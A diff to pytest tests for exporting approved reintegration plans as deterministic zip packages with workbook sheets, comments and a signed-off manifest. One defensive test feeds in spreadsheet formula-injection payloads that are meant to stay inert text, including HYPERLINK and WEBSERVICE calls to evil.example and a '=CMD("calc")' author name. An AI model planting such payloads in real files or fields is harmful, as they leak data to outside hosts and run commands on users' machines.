@@ -27,12 +27,18 @@ from reintegration.models import AuditEvent  # noqa: E402
 ROOT = Path(__file__).resolve().parents[2]
 DECIDED = datetime(2027, 1, 15, 10, 30, 7, tzinfo=timezone.utc)
 SHEETS = {"en": ["Summary", "Plan and activity", "Budget lines", "Rate check", "Follow-up schedule",
-                 "Decision trail"],
-          "da": ["Resumé", "Plan og aktivitet", "Budgetlinjer", "Takstkontrol", "Opfølgningsplan", "Beslutningsspor"]}
+                 "Decision trail", "Comments"],
+          "da": ["Resumé", "Plan og aktivitet", "Budgetlinjer", "Takstkontrol", "Opfølgningsplan", "Beslutningsspor",
+                 "Kommentarer"]}
 
 
 @pytest.fixture
-def approved(db, make_plan, approve, make_case):
+def commenter(make_user):
+    return make_user("cmm", name="Camilla Commenter")
+
+
+@pytest.fixture
+def approved(db, make_plan, approve, make_case, comment, commenter):
     from datetime import date
 
     case = make_case(children=[date(2018, 5, 1)], planned_return=date(2027, 3, 1))
@@ -41,9 +47,20 @@ def approved(db, make_plan, approve, make_case):
         Line(amount="14500.00", description="Two salon chairs, dryer, mirror", currency="NGN",
              amount_local="3625000", exchange_rate="0.004"),
     ])
+    comment(version, commenter, "Debt to the uncle is settled")
     approve(version, now=DECIDED)
     db.refresh(version)
     return version
+
+
+def rename(db, *users):
+    """Every account given another name (and e-mail), as when an account is renamed or
+    re-used for someone else after the decision."""
+    for user in users:
+        user.name = f"Someone else than {user.name}"
+        user.email = f"renamed-{user.email}"
+        db.add(user)
+    db.commit()
 
 
 def build(app, db, version, lang="en"):
@@ -51,9 +68,14 @@ def build(app, db, version, lang="en"):
         return packages.build(db, version, app.extensions["rate_tables"], lang)
 
 
-def test_exporting_twice_gives_identical_bytes(app, db, approved):
-    first, second = build(app, db, approved), build(app, db, approved)
+def test_exporting_twice_gives_identical_bytes(app, db, approved, approver, drafter, commenter):
+    first = build(app, db, approved)
+    # The names are those of the decision: renaming the approver, the drafter (who also
+    # submitted) and the commenter afterwards changes no byte of the package.
+    rename(db, approver, drafter, commenter)
+    second = build(app, db, approved)
     assert first.data == second.data
+    assert build(app, db, approved, "da").data == build(app, db, approved, "da").data
     assert first.filename == f"{case_of(db, approved).reference}-v1.zip"
     with zipfile.ZipFile(io.BytesIO(first.data)) as archive:
         infos = archive.infolist()
@@ -72,7 +94,8 @@ def test_the_workbook_inside_is_deterministic_too(app, db, approved):
         assert b"2027-01-15T10:30:07Z" in inner.read("docProps/core.xml")
 
 
-def test_manifest_lists_every_file_with_its_digest_and_the_decision(app, db, approved, approver):
+def test_manifest_lists_every_file_with_its_digest_and_the_decision(app, db, approved, approver, drafter,
+                                                                   commenter):
     package = build(app, db, approved)
     with zipfile.ZipFile(io.BytesIO(package.data)) as archive:
         manifest = json.loads(archive.read("manifest.json"))
@@ -84,6 +107,11 @@ def test_manifest_lists_every_file_with_its_digest_and_the_decision(app, db, app
     assert manifest["rate_table"] == {"id": "2026-2029", "version": 1}
     assert (manifest["decision"], manifest["approver"]) == ("approved", approver.name)
     assert manifest["decided_at"] == "2027-01-15T10:30:07Z"
+    assert (manifest["drafted_by"], manifest["submitted_by"]) == ([drafter.name], drafter.name)
+    assert manifest["submitted_at"] == approved.submitted_at.strftime("%Y-%m-%dT%H:%M:%SZ")
+    assert [(c["author"], c["text"]) for c in manifest["comments"]] == [(commenter.name,
+                                                                        "Debt to the uncle is settled")]
+    assert manifest["comments"][0]["written_at"].endswith("Z")
     assert manifest["content_sha256"] == approved.content_sha256
 
 
@@ -104,6 +132,8 @@ def test_the_workbook_opens_with_its_sheets_and_print_setup(app, db, approved, l
     assert [c.value for c in schedule["A"][1:5]] == [1, 3, 6, 12]
     trail = wb.worksheets[5]
     assert trail.max_row == 2
+    comments = wb.worksheets[6]
+    assert comments.max_row == 2 and comments["B2"].number_format == "yyyy-mm-dd hh:mm:ss"
 
 
 def test_the_plan_file_gives_the_apps_verdict_with_validate(app, db, approved, tmp_path):
@@ -200,11 +230,14 @@ def test_the_command_takes_a_version_and_a_language(runner, db, approved, make_p
     assert manifest["version"] == 2 and trail.max_row == 3  # both decisions in the trail
 
 
-def test_text_that_a_spreadsheet_would_run_stays_text(app, db, make_plan, approve, make_case):
+def test_text_that_a_spreadsheet_would_run_stays_text(app, db, make_plan, approve, make_case, comment, make_user):
     name = '=HYPERLINK("http://evil.example/?x="&B3,"open")'
     description = '=WEBSERVICE("http://evil.example/")'
+    remark = '=HYPERLINK("http://evil.example/c","see")'
+    author = make_user("cmm", name='=CMD("calc")')
     version = make_plan(case=make_case(person_name=name),
                         lines=[Line(kind="cash", amount="4000.00", description=description)])
+    comment(version, author, remark)
     approve(version, now=DECIDED)
     db.refresh(version)
     result = build(app, db, version)
@@ -214,7 +247,7 @@ def test_text_that_a_spreadsheet_would_run_stays_text(app, db, make_plan, approv
     cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
     assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
     values = {cell.value for cell in cells}
-    assert name in values and description in values  # as typed, as text
+    assert {name, description, remark, author.name} <= values  # as typed, as text
 
 
 @pytest.mark.parametrize("lang, words", [("en", ("Nigeria", "Education fees")), ("da", ("Nigeria", "Uddannelsesgebyrer"))])
